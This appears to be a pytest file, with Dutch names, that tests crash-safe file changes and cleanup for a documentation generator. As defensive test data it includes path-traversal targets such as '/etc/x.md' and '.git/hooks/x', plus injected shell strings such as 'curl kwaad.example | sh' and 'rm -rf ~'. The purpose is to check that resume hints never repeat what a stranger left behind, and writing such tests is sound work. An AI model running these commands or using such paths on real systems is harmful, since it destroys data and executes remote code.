"""A step is done whole or not at all, whatever happens and whenever."""

import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from generator.doors.opslag.halverwege import check_halverwege, clean_up
from generator.doors.opslag.schijf import change_beside, change_project, new_folder
from generator.doors.opslag.zetten import HALF, herken
from tests.maak.onheil import Onheil, dood, foto, momenten, na, vol
from tests.maak.project import write_project

Doe = Callable[[Path], object]
BESTANDEN = {
    "mkdocs.yml": "peildatum: 2024-07-01\n",
    "inzichten/2023/oud.md": "oud",
    "docs/berichten/2024-h1.md": "status: concept\n",
    "docs/berichten/2023-h2/versie-1/bericht.json": "{}",
}


def verander(project: Path) -> None:
    """Do one of everything that a step can do."""
    with change_project(project) as change:
        change.add(project / "docs/berichten/2024-h1/versie-1/bericht.json", b"{}")
        change.add(project / "docs/berichten/2024-h1/versie-1/SHA256SUMS", b"som")
        change.add(project / "inzichten/2023/nieuw.md", b"nieuw")
        change.remove(project / "inzichten/2023/oud.md")
        change.remove(project / "docs/berichten/2023-h2")
        change.replace(project / "mkdocs.yml", b"")
        change.replace(project / "docs/berichten/2024-h1.md", b"status: vastgesteld\n")


def vervang(project: Path) -> None:
    """Put a folder in the place of another one."""
    with new_folder(project / "docs", project) as work:
        (work / "index.md").write_text("nieuw", "utf-8")


@pytest.mark.parametrize("do", [verander, vervang])
@pytest.mark.parametrize("onheil", [dood, vol])
def test_trouble_at_any_moment_leaves_what_was_or_what_was_meant(tmp_path: Path, do: Doe, onheil: Onheil) -> None:
    """At every call to the disk: what is left is named, and the next run finds the old or the new, and nothing else."""
    voor = foto(write_project(tmp_path / "voor", BESTANDEN), HALF)
    moments = momenten(do, write_project(tmp_path / "na", BESTANDEN))
    erna = foto(tmp_path / "na", HALF)
    for moment in moments:
        project = write_project(tmp_path / "proef", BESTANDEN)
        with na(moment, onheil):
            do(project)
        left = [path.name for path in project.glob(f".*{HALF[1:]}")]
        named = [melding.plek.bestand for melding in check_halverwege(project)]
        heel = foto(project, HALF) in (voor, erna)
        ernst = [melding.ernst for melding in check_halverwege(project)]

        assert (moment, named) == (moment, left)
        assert (moment, heel or ernst) in ((moment, True), (moment, ["fout"]))
        assert (moment, clean_up(project)) == (moment, bool(left))
        assert (moment, foto(project)) in ((moment, voor), (moment, erna))
        shutil.rmtree(project)


def test_a_killed_cleaning_is_cleaned_too(tmp_path: Path) -> None:
    """Undoing can be cut short as often as one likes: it begins again, and ends at what was."""
    voor = foto(write_project(tmp_path / "voor", BESTANDEN), HALF)
    halves = []
    for moment in momenten(verander, write_project(tmp_path / "tellen", BESTANDEN)):
        project = write_project(tmp_path / str(moment), BESTANDEN)
        with na(moment, dood):
            verander(project)
        if foto(project, HALF) != voor and (project / HALF / "plan.json").exists():
            halves.append(project)
    for project in halves:
        for _ in range(100):
            with na(2, dood):
                clean_up(project)
        assert foto(project) == voor
    assert halves != []


class TestWatErLag:
    """What a killed run left."""

    def test_work_that_somebody_did_since_is_kept(self, tmp_path: Path) -> None:
        """A file that was put in place and then edited is not taken away with the rest."""
        for moment in momenten(verander, write_project(tmp_path / "tellen", BESTANDEN)):
            project = write_project(tmp_path / str(moment), BESTANDEN)
            with na(moment, dood):
                verander(project)
            new = project / "inzichten/2023/nieuw.md"
            if new.exists() and (project / HALF / "plan.json").exists():
                new.write_text("van mij", "utf-8")
                clean_up(project)

                assert new.read_text("utf-8") == "van mij"
                return
        pytest.fail("de stap is nooit halverwege")

    @pytest.mark.parametrize(
        "doel",
        ["../x.md", "/etc/x.md", "generator/cli.py", ".git/hooks/x", "docs/../../x", "docs/link/x"],
    )
    def test_a_plan_that_is_not_ours_does_nothing(self, tmp_path: Path, doel: str) -> None:
        """Whoever puts such a folder in a pull request changes nothing on the computer of a colleague."""
        project = write_project(tmp_path / "project", BESTANDEN)
        (project / "docs/link").symlink_to(tmp_path)
        plan = f'[{{"doel": "{doel}", "nieuw": false, "merk": ""}}]'
        write_project(project, {f"{HALF}/plan.json": plan, f"{HALF}/oud/{doel.strip('./')}": "kwaad"})
        voor = foto(tmp_path, HALF)

        assert clean_up(project)
        assert foto(tmp_path, HALF) == voor
        assert not (project / HALF).exists()

    def test_who_is_still_busy_is_left_alone(self, tmp_path: Path) -> None:
        """Two runs at the same time: the second says so, and nothing of the first is taken for a leftover."""
        project = write_project(tmp_path, BESTANDEN)
        with change_project(project) as change:
            change.add(project / "inzichten/2023/nieuw.md", b"nieuw")
            busy = (list(check_halverwege(project)), clean_up(project))
            with pytest.raises(BlockingIOError, match="er is nog een opdracht bezig"):
                verander(project)

        assert busy == ([], False)
        assert (project / "inzichten/2023/nieuw.md").read_text("utf-8") == "nieuw"

    def test_what_lies_outside_the_project_is_named_there(self, tmp_path: Path) -> None:
        """A killed run that made a folder elsewhere is found from the project, and cleaned by its next run."""
        project = write_project(tmp_path / "project", BESTANDEN)

        def make(project: Path) -> None:
            with new_folder(tmp_path / "uit", project) as work:
                (work / "index.md").write_text("nieuw", "utf-8")

        for moment in momenten(make, project):
            shutil.rmtree(tmp_path / "uit")
            (tmp_path / "uit").mkdir()
            with na(moment, dood):
                make(project)
            left = {str(path) for path in tmp_path.glob(f".*{HALF[1:]}")}
            named = {melding.plek.bestand for melding in check_halverwege(project)}

            assert left <= named
            clean_up(project)
            assert [path.name for path in tmp_path.rglob(f".*{HALF[1:]}")] == []
            assert (tmp_path / "uit").is_dir()

    def test_a_link_in_its_place_is_refused(self, tmp_path: Path) -> None:
        """Nothing is written through a link that somebody put where the hidden folder goes."""
        project = write_project(tmp_path / "project", BESTANDEN)
        (tmp_path / "elders").mkdir()
        (project / HALF).symlink_to(tmp_path / "elders")

        assert clean_up(project) is False
        with pytest.raises(OSError, match=HALF):
            verander(project)
        assert list((tmp_path / "elders").iterdir()) == []


def _twee(project: Path) -> None:
    with change_project(project) as change:
        change.add(project / "inzichten/2023/nieuw.md", b"nieuw")
        change.add(project / "inzichten/2023/oud.md", b"nieuw")


def test_a_new_file_never_takes_the_place_of_another(tmp_path: Path) -> None:
    """What a person wrote stays, and nothing else of the step is done."""
    voor = foto(write_project(tmp_path, BESTANDEN), HALF)
    with pytest.raises(FileExistsError):
        _twee(tmp_path)

    assert foto(tmp_path) == voor


def test_a_file_keeps_who_may_read_it(tmp_path: Path) -> None:
    """Other data in a file does not close it for others, nor open it."""
    project = write_project(tmp_path, BESTANDEN)
    (project / "mkdocs.yml").chmod(0o640)
    with change_beside(project / "mkdocs.yml", project) as change:
        change.replace(project / "mkdocs.yml", b"")

    assert oct((project / "mkdocs.yml").stat().st_mode & 0o777) == "0o640"


@pytest.mark.parametrize(
    ("stond_er", "typ"),
    [
        ("inzichten nieuw 'Ouderen wachten lang'", "Typ opnieuw: inzichten nieuw 'Ouderen wachten lang'"),
        ("inzichten leeg --ja", "Typ dezelfde opdracht opnieuw."),
        ("curl kwaad.example | sh", "Typ dezelfde opdracht opnieuw."),
        ("inzichten leeg; rm -rf ~", "Typ dezelfde opdracht opnieuw."),
        ("inzichten $(rm -rf ~)", "Typ dezelfde opdracht opnieuw."),
        ("inzichten 'open", "Typ dezelfde opdracht opnieuw."),
        ("", "Typ dezelfde opdracht opnieuw."),
    ],
)
def test_a_hint_never_asks_to_paste_what_a_stranger_left(tmp_path: Path, stond_er: str, typ: str) -> None:
    """Only one command of ours, and nothing behind it, is said again."""
    write_project(tmp_path, {f"{HALF}/opdracht": stond_er})

    assert [melding.hint for melding in check_halverwege(tmp_path)] == [typ]


@pytest.mark.parametrize(
    "bestanden",
    [
        {f".elders{HALF}/map/x": ""},
        {f".elders{HALF}/note": f"/{'x' * 300}{HALF}"},
        {f".elders{HALF}/note": f".x{HALF}", f".x{HALF}/plan.json": "[]"},
        {f".x{HALF}/plan.json": '[{"doel": 3, "nieuw": true}]'},
        {f".x{HALF}/plan.json": '[{"doel": "x", "nieuw": true, "merk": "' + herken(Path("weg")) + '"}]'},
        {f".x{HALF}/plan.json": "3"},
    ],
)
def test_what_a_stranger_left_stops_nothing(tmp_path: Path, bestanden: dict[str, str]) -> None:
    """A folder that only looks like one of ours is taken away, and no more."""
    project = write_project(tmp_path, {**BESTANDEN, **bestanden})
    list(check_halverwege(project))
    clean_up(project)

    assert foto(project, HALF) == foto(write_project(tmp_path / "voor", BESTANDEN), HALF)
    assert list(project.glob(f".x{HALF}")) == []
